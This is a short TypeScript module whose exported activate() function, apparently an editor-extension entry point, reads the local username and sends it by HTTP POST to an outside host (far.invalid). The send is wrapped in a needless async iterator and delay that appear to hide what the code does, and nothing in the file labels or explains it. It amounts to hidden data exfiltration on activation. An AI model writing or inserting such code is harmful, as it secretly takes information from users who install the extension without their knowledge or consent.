import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

class Subject { [Symbol.asyncIterator]() { let n = 0; return { next: async () => n++ ? { done: true, value: undefined } : { done: false, value: await later() } }; } }

export async function activate() {
  for await (const x of new Subject() as any) send(x);
}
